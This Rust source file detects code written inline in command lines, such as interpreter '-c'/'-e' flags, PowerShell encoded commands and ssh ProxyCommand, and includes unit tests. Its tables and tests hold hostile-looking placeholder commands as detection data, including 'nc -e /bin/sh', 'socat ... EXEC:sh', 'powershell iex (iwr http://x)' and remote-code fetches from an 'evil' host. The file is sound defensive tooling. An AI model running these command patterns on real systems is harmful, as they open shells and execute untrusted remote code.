//! Finds code that stands in a command line itself: `python -c …`, `bash -lc …`, `ssh -o ProxyCommand=…`. Wherever in the
//! line the interpreter is named, because any program may start it. Pure; says nothing about what the code does.

use satchel_entry::launcher::{Launch, Runs, is_engine, words};

/// How a program is told code: options of one letter, which may be written together; other options; and the options that
/// take the next word as their value, so that a value is not taken for a script.
#[derive(Clone, Copy)]
struct Interpreter {
    names: &'static [&'static str],
    letters: &'static str,
    words: &'static [&'static str],
    valued: &'static [&'static str],
    script: Script,
}

/// Which word without a hyphen is the script, behind which options are its own.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Script {
    /// The first.
    First,
    /// The first that looks like a file: not all options that take a value are known.
    File,
    /// None: these programs take their options anywhere.
    Never,
}

const fn interpreter(
    names: &'static [&'static str],
    letters: &'static str,
    words: &'static [&'static str],
    valued: &'static [&'static str],
    script: Script,
) -> Interpreter {
    Interpreter { names, letters, words, valued, script }
}

/// The first word that is no option is the package; what follows is its own.
const NPX: [&str; 3] = ["npx", "pnpx", "bunx"];

/// Names are without directory, ending and version: `python3.12.exe` is `python`.
const INTERPRETERS: &[Interpreter] = &[
    interpreter(
        &[
            "sh", "bash", "rbash", "zsh", "dash", "ash", "ksh", "mksh", "yash", "fish", "csh", "tcsh", "nu",
            "xonsh", "elvish",
        ],
        "c",
        &["--command", "--commands", "--init-command", "--execute", "-s"],
        &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"],
        Script::First,
    ),
    interpreter(
        &["python", "pythonw", "pypy", "ipython", "jython", "py"],
        "c",
        &[],
        &["-W", "-X", "-Q", "--check-hash-based-pycs"],
        Script::First,
    ),
    interpreter(
        &["node", "nodejs", "bun", "tsx", "ts-node", "electron", "qjs", "jsc"],
        "ep",
        &["--eval", "--print", "-pe", "-ep"],
        &[
            "-r",
            "--require",
            "--import",
            "--loader",
            "--experimental-loader",
            "--title",
            "-C",
            "--conditions",
            "--input-type",
            "--env-file",
        ],
        Script::File,
    ),
    interpreter(
        &["perl", "ruby", "jruby", "lua", "luajit", "rscript", "groovy", "scala", "clojure", "clj", "bb"],
        "eE",
        &["--eval", "--execute"],
        &["-I"],
        Script::File,
    ),
    interpreter(
        &["julia", "elixir", "iex", "erl", "sbcl", "emacs", "racket", "ghc", "mongosh"],
        "eE",
        &["--eval", "-eval", "--print", "--cmd"],
        &[],
        Script::File,
    ),
    interpreter(&["osascript"], "e", &[], &["-l"], Script::File),
    interpreter(
        &["php"],
        "rBRE",
        &["--run", "--process-begin", "--process-code", "--process-end"],
        &["-d", "-c"],
        Script::First,
    ),
    interpreter(
        &["guile", "expect", "su", "runuser", "script", "flock", "sg"],
        "c",
        &["--command"],
        &[],
        Script::Never,
    ),
    interpreter(&["nix", "nix-shell", "nix-develop"], "c", &["--run", "--command"], &["-p"], Script::Never),
    interpreter(&NPX, "c", &["--call", "--shell-mode"], &["-p", "--package"], Script::First),
    interpreter(
        &["npm", "pnpm", "yarn"],
        "c",
        &["--call", "--shell-mode"],
        &["-p", "--package"],
        Script::First,
    ),
    interpreter(&["vim", "vi", "nvim", "ex"], "c", &["--cmd"], &[], Script::Never),
    interpreter(&["gdb", "lldb"], "", &["-ex", "-iex", "--eval-command", "--one-line"], &[], Script::Never),
    interpreter(&["doppler", "infisical"], "", &["--command"], &[], Script::Never),
    interpreter(&["forfiles"], "", &["/c", "/C"], &[], Script::Never),
    interpreter(&["nc", "ncat", "netcat"], "ec", &["--exec", "--sh-exec", "--lua-exec"], &[], Script::Never),
    interpreter(&["find"], "", &["-exec", "-execdir", "-ok", "-okdir"], &[], Script::Never),
    interpreter(&["make", "gmake"], "", &["--eval"], &["-f", "-C"], Script::Never),
];

/// Options that name a command: `-o ProxyCommand=nc …`. Looked for in every word behind these programs.
const COMMANDS_IN_OPTIONS: &[(&[&str], &[&str])] = &[
    (
        &["ssh", "scp", "sftp", "autossh", "sshfs"],
        &["proxycommand", "localcommand", "knownhostscommand", "match exec"],
    ),
    (&["git"], &["sshcommand", "fsmonitor", "alias.", "core.pager", "core.editor", "proxy.command", "ext::"]),
    (&["tar", "gtar", "bsdtar"], &["--checkpoint-action", "--to-command", "--use-compress-program"]),
    (&["rsync"], &["--rsh=", "-e"]),
    (&["socat"], &["exec:", "system:", "shell:"]),
    (&["env"], &["-s", "--split-string"]),
    (&["sqlite"], &[".shell", ".system"]),
    (&["psql", "mysql", "mariadb"], &["\\!", "system "]),
    (&["mshta", "rundll"], &["javascript:", "vbscript:"]),
    (&["wscript", "cscript"], &["//e:"]),
];
/// Programs whose arguments are lines for a shell.
const LINES: &[&str] =
    &["concurrently", "cross-env-shell", "watch", "parallel", "ssh", "autossh", "hyperfine"];

/// Their names are ordinary words too, which count only where a program stands.
const ORDINARY: &[&str] = &["script", "find", "make", "flock", "sg", "expect", "env", "tar"];
/// What stands before the package that a launcher runs.
const VERBS: &[&str] = &["exec", "x", "dlx"];

/// What in this line is code, as it is written there: `python -c`. One for each program.
pub(super) fn written_code(words: &[String]) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for (at, word) in words.iter().enumerate() {
        let name = program(word);
        if at > 0 && ORDINARY.contains(&name.as_str()) {
            continue;
        }
        let how = match told_code(&name, &words[at + 1..]) {
            Some(how) => format!("{} {how}", base(word)),
            // What another program was found to run is not said twice.
            None => match line_in(word).filter(|_| at > 0 && found.is_empty()) {
                Some(how) => how,
                None => continue,
            },
        };
        if !found.contains(&how) {
            found.push(how);
        }
    }
    found
}

/// What is code in an argument that is a whole command line: `--stdio "sh -c …"`.
fn line_in(argument: &str) -> Option<String> {
    if !argument.trim().contains(char::is_whitespace) {
        return None;
    }
    let words = words(argument)?;
    let name = program(words.first()?);
    told_code(&name, &words[1..]).map(|how| format!("{} {how}", base(&words[0])))
}

/// The first argument that only a shell can read.
fn shell_line(rest: &[String]) -> Option<String> {
    let is_line = |word: &&String| {
        word.contains(['&', '|', ';', '`', '<', '>', '\n']) || word.contains("$(") || word.contains(' ')
    };
    rest.iter().find(|word| !word.starts_with('-') && is_line(word)).map(|_| "…".to_owned())
}

fn told_code(name: &str, rest: &[String]) -> Option<String> {
    let interpreter = INTERPRETERS.iter().find(|one| one.names.contains(&name));
    let by_option = interpreter.and_then(|one| code_option(one, rest));
    let by_command = COMMANDS_IN_OPTIONS.iter().find(|(names, _)| names.contains(&name));
    let by_command = by_command.and_then(|(_, options)| command_in(rest, options));
    let special = match name {
        "deno" => {
            let eval = rest.iter().find(|word| matches!(word.as_str(), "eval" | "--eval")).cloned();
            eval.or_else(|| from_elsewhere(name, rest))
        }
        "uv" | "uvx" | "pipx" | "java" => from_elsewhere(name, rest),
        "jbang" => rest.iter().find(|word| word.contains("://")).cloned(),
        "nix" => {
            let runs = rest.first().is_some_and(|word| matches!(word.as_str(), "run" | "shell" | "develop"));
            rest.iter().find(|word| runs && word.contains(':')).cloned()
        }
        "yarn" | "pnpm" if rest.first().is_some_and(|word| word == "exec") => shell_line(&rest[1..]),
        _ if LINES.contains(&name) => {
            let config = || rest.iter().find(|word| name == "ssh" && *word == "-F").cloned();
            shell_line(rest).or_else(config)
        }
        "powershell" | "pwsh" => windows_command(rest).or_else(|| shell_line(rest)),
        "cmd" => cmd(rest),
        _ if is_engine(name) => entrypoint(rest),
        "node" | "nodejs" | "bun" | "tsx" => {
            rest.iter().find(|word| word.contains("data:")).map(|_| "data:".to_owned())
        }
        "awk" | "gawk" | "mawk" | "nawk" => {
            let program = rest.iter().find(|word| !word.starts_with('-'));
            program.filter(|word| word.contains('{')).map(|_| "{…}".to_owned())
        }
        _ => None,
    };
    by_option.or(by_command).or(special)
}

/// The option that is followed by code, before the script whose own options they would be.
fn code_option(interpreter: &Interpreter, rest: &[String]) -> Option<String> {
    let mut words = rest.iter();
    while let Some(word) = words.next() {
        let bare = word.split('=').next().unwrap_or(word);
        if word == "--" {
            return None;
        }
        if interpreter.words.contains(&bare) {
            return Some(bare.to_owned());
        }
        if interpreter.valued.contains(&word.as_str()) {
            words.next();
            continue;
        }
        match cluster(interpreter, word) {
            Cluster::Code(option) => return Some(option),
            Cluster::TakesNext => drop(words.next()),
            Cluster::Module => return None,
            Cluster::Other => {}
        }
        let is_verb =
            VERBS.contains(&word.as_str()) && !NPX.iter().any(|name| interpreter.names.contains(name));
        let is_plain = !word.starts_with(['-', '+']) && !is_verb;
        let is_script = match interpreter.script {
            Script::First => is_plain,
            Script::File => is_plain && word.contains(['.', '/', '\\']),
            Script::Never => false,
        };
        if is_script {
            return None;
        }
    }
    None
}

/// What options of one letter, written together, say.
enum Cluster {
    Code(String),
    TakesNext,
    /// A module is run, and what follows are its arguments.
    Module,
    Other,
}

/// The code may stand behind them without a blank: `-lc`, `-ne`, `-c'print(1)'`.
fn cluster(interpreter: &Interpreter, word: &str) -> Cluster {
    let Some(letters) = word.strip_prefix('-').filter(|rest| !rest.starts_with('-')) else {
        return Cluster::Other;
    };
    for (at, letter) in letters.char_indices() {
        let end = at + letter.len_utf8();
        if interpreter.letters.contains(letter) {
            return Cluster::Code(format!("-{}", &letters[..end]));
        }
        let is_valued = |option: &&str| option.strip_prefix('-') == letters.get(at..end);
        if interpreter.valued.iter().any(is_valued) {
            return if end == letters.len() { Cluster::TakesNext } else { Cluster::Other };
        }
        // What follows is a value, or this is a word with one hyphen.
        let has_value = interpreter.script == Script::File && matches!(letter, 'm' | 'M' | 'i');
        if letter == 'm' && interpreter.names.contains(&"python") {
            return Cluster::Module;
        }
        if has_value || !letter.is_ascii_alphanumeric() {
            return Cluster::Other;
        }
    }
    Cluster::Other
}

fn command_in(rest: &[String], options: &[&str]) -> Option<String> {
    let found = |word: &&String| {
        let lower = word.to_ascii_lowercase();
        options.iter().any(|option| match option.starts_with('-') && option.len() == 2 {
            // An option of one letter, with its value behind it or in the next word.
            true => word.starts_with('-') && !word.starts_with("--") && lower.starts_with(option),
            false => lower.contains(option),
        })
    };
    let word = rest.iter().find(found)?;
    Some(word.split(['=', ' ']).next().unwrap_or(word).to_owned())
}

/// A script at an address, or on standard input.
fn from_elsewhere(name: &str, rest: &[String]) -> Option<String> {
    let launch = Launch::of(name, rest);
    let names_package = launch.values(&["--from", "--spec"]).next().is_some();
    match launch.runs {
        Runs::Address(script) | Runs::Code(script) => Some(script),
        Runs::Packages(packages) if !names_package => {
            packages.into_iter().map(|package| package.text).find(|text| text.contains("://"))
        }
        Runs::Packages(_) => None,
        Runs::File(_) | Runs::Module(_) | Runs::Program(_) | Runs::Nothing => None,
    }
}

/// Another program than the image's own, with code behind the image.
fn entrypoint(rest: &[String]) -> Option<String> {
    let at = rest.iter().position(|word| word.starts_with("--entrypoint"))?;
    let named = rest[at]
        .split_once('=')
        .map_or_else(|| rest.get(at + 1).map(String::as_str), |(_, name)| Some(name))?;
    let name = program(named);
    let interpreter = INTERPRETERS.iter().find(|one| one.names.contains(&name.as_str()))?;
    let anywhere = Interpreter { script: Script::Never, ..*interpreter };
    let option = code_option(&anywhere, rest.get(at + 1..).unwrap_or_default())?;
    Some(format!("--entrypoint {named} {option}"))
}

/// `-Command`, `-EncodedCommand` and all their short forms, with either sign.
fn windows_command(rest: &[String]) -> Option<String> {
    let is_code = |word: &&String| {
        let Some(option) = word.strip_prefix(['-', '/']) else { return false };
        let option = option.to_ascii_lowercase();
        let short = |of: &str| !option.is_empty() && of.starts_with(&option);
        short("command")
            || short("commandwithargs")
            || short("encodedcommand")
            || matches!(option.as_str(), "cwa" | "ec")
    };
    rest.iter().take_while(|word| !word.to_ascii_lowercase().ends_with(".ps1")).find(is_code).cloned()
}

/// More than one program behind `/c`. One program is looked at in place of `cmd`.
fn cmd(rest: &[String]) -> Option<String> {
    let at = rest.iter().position(|word| matches!(word.to_ascii_lowercase().as_str(), "/c" | "/k" | "/r"))?;
    let behind = &rest[at + 1..];
    let joins = |word: &String| word.contains(['&', '|', '<', '>', '\n']) && !word.contains("://");
    let is_line = behind.first().is_some_and(|word| word.contains(char::is_whitespace)) && behind.len() == 1;
    (is_line || behind.iter().any(joins)).then(|| rest[at].clone())
}

/// Without directory and ending.
fn base(program: &str) -> &str {
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let cut = name.len().checked_sub(4).filter(|at| name.is_char_boundary(*at));
    match cut.map(|at| name.split_at(at)) {
        Some((stem, ending)) if [".exe", ".cmd", ".bat"].contains(&ending.to_ascii_lowercase().as_str()) => {
            stem
        }
        _ => name,
    }
}

/// Also without version.
fn program(word: &str) -> String {
    let name = base(word).to_ascii_lowercase();
    let plain = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.').trim_end_matches('-');
    if plain.is_empty() { name } else { plain.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(line: &str) -> Vec<String> {
        written_code(&line.split(' ').map(|word| word.replace('_', " ")).collect::<Vec<_>>())
    }

    #[test]
    fn code_in_a_line_is_found_wherever_and_however_it_is_written() {
        for (line, how) in [
            ("python -c x", "python -c"),
            ("/usr/bin/python3.12 -Ic x", "python3.12 -Ic"),
            ("python3 -W ignore -uc x", "python3 -uc"),
            ("python3 -cprint(1)", "python3 -c"),
            ("py -3 -c x", "py -c"),
            ("C:\\Python\\python.exe -c x", "python -c"),
            ("node -e x", "node -e"),
            ("node --eval=x", "node --eval"),
            ("node -pe x", "node -pe"),
            ("node -r dotenv/config -e x", "node -e"),
            ("bun -e x", "bun -e"),
            ("sh -c x", "sh -c"),
            ("bash -lc x", "bash -lc"),
            ("sh -xc x", "sh -xc"),
            ("bash -euo pipefail -c x", "bash -c"),
            ("bash --norc -c x", "bash -c"),
            ("zsh -ic x", "zsh -ic"),
            ("fish --command x", "fish --command"),
            ("busybox sh -c x", "sh -c"),
            ("env sh -c x", "sh -c"),
            ("env A=1 sh -c x", "sh -c"),
            ("env -S sh_-c_x", "env -S"),
            ("timeout 5 nice -n 3 sh -c x", "sh -c"),
            ("uv run python -c x", "python -c"),
            ("uv run --with a python3 -c x", "python3 -c"),
            ("poetry run python -c x", "python -c"),
            ("docker run -i image sh -c x", "sh -c"),
            ("docker run --rm --entrypoint /bin/sh image -c x", "docker --entrypoint /bin/sh -c"),
            ("podman run --entrypoint=bash image -lc x", "podman --entrypoint bash -lc"),
            ("node --import data:text/javascript,x server.js", "node data:"),
            ("npx -c x", "npx -c"),
            ("npx -y --call x", "npx --call"),
            ("npm exec -c x", "npm -c"),
            ("npx -y tsx -e x", "tsx -e"),
            ("perl -e x", "perl -e"),
            ("perl -lane x", "perl -lane"),
            ("perl -0777ne x", "perl -0777ne"),
            ("ruby -rjson -e x", "ruby -e"),
            ("ruby -ne x", "ruby -ne"),
            ("php -r x", "php -r"),
            ("osascript -e x", "osascript -e"),
            ("julia --eval x", "julia --eval"),
            ("Rscript -e x", "Rscript -e"),
            ("ssh -o ProxyCommand=nc_x host", "ssh ProxyCommand"),
            ("ssh -oProxyCommand=x host", "ssh -oProxyCommand"),
            ("ssh -o proxycommand_x host", "ssh proxycommand"),
            ("ssh -o PermitLocalCommand=yes host", "ssh PermitLocalCommand"),
            ("git -c core.sshCommand=x clone y", "git core.sshCommand"),
            ("deno run https://x.example/a.ts", "deno https://x.example/a.ts"),
            ("deno run -A --quiet https://x.example/a.ts", "deno https://x.example/a.ts"),
            ("deno https://x.example/a.ts", "deno https://x.example/a.ts"),
            ("deno run data:text/javascript,x", "deno data:text/javascript,x"),
            ("deno eval x", "deno eval"),
            ("uv run https://x.example/a.py", "uv https://x.example/a.py"),
            ("uv run -", "uv -"),
            ("pipx run https://x.example/a.py", "pipx https://x.example/a.py"),
            ("powershell -NoProfile -Command x", "powershell -Command"),
            ("powershell.exe -enc x", "powershell -enc"),
            ("pwsh /c x", "pwsh /c"),
            ("cmd /c a_&_b", "cmd /c"),
            ("cmd.exe /C npx x & del y", "cmd /C"),
            ("find . -exec rm {} ;", "find -exec"),
            ("nc -e /bin/sh h 1", "nc -e"),
            ("socat TCP:h:1 EXEC:sh", "socat EXEC:sh"),
            ("awk BEGIN{system(\"x\")}", "awk {…}"),
            ("su -c x user", "su -c"),
            ("ssh host touch_x;_y", "ssh …"),
            ("ssh -F cfg host", "ssh -F"),
            ("pwsh x;_y", "pwsh …"),
            ("powershell iex_(iwr_http://x)", "powershell …"),
            ("npx cross-env-shell a_b", "cross-env-shell …"),
            ("npx -y concurrently npm:a b_c", "concurrently …"),
            ("npx -y supergateway --stdio sh_-c_x", "sh -c"),
            ("doppler run --command x", "doppler --command"),
            ("infisical run --command=x", "infisical --command"),
            ("nix run github:evil/x", "nix github:evil/x"),
            ("jbang https://evil/x.java", "jbang https://evil/x.java"),
            ("java -jar https://evil/x.jar", "java https://evil/x.jar"),
            ("vim -c :!x", "vim -c"),
            ("gdb -ex shell_x", "gdb -ex"),
            ("sqlite3 db .shell_x", "sqlite3 .shell"),
            ("psql -c \\!_x", "psql \\!"),
            ("yarn exec x;_y", "yarn …"),
            ("forfiles /c x", "forfiles /c"),
            ("mshta javascript:x", "mshta javascript:x"),
            ("sh -s", "sh -s"),
            ("nix-shell -p python3 --run x", "nix-shell --run"),
        ] {
            assert_eq!(found(line), [how], "{line}");
        }
    }

    #[test]
    fn a_program_or_script_with_options_of_its_own_is_no_code() {
        for line in [
            "npx -y @scope/server@1.2.3 -c config.json -e prod",
            "npx -y server --eval",
            "npx x -c config.json",
            "npx -y server --say hello_there",
            "nix run .",
            "uvx mcp-server-git --repository /x -c y",
            "python -m server -c config.toml",
            "python server.py -c x",
            "python3 /srv/server.py -e x",
            "node server.js -e production -p 3000",
            "node --enable-source-maps dist/index.js -p 1",
            "bash run.sh -c x",
            "sh /opt/start -c x",
            "cmd /c npx -y server",
            "cmd /c npx -y mcp-remote https://x.example/mcp?a=1&b=2",
            "docker run -i --rm -e TOKEN -c 512 image",
            "ssh -i key host mcp-server",
            "deno run -A npm:server https://x.example",
            "deno run -A server.ts",
            "uv run --directory /x server.py -c y",
            "uvx --from git+https://x.example/y server",
            "java -jar server.jar -c x",
            "powershell -File run.ps1 -Command x",
            "php server.php -r x",
            "perl server.pl -e x",
            "ruby -Ilib server.rb -e x",
            "git-mcp -c x",
        ] {
            assert_eq!(found(line), Vec::<String>::new(), "{line}");
        }
    }
}
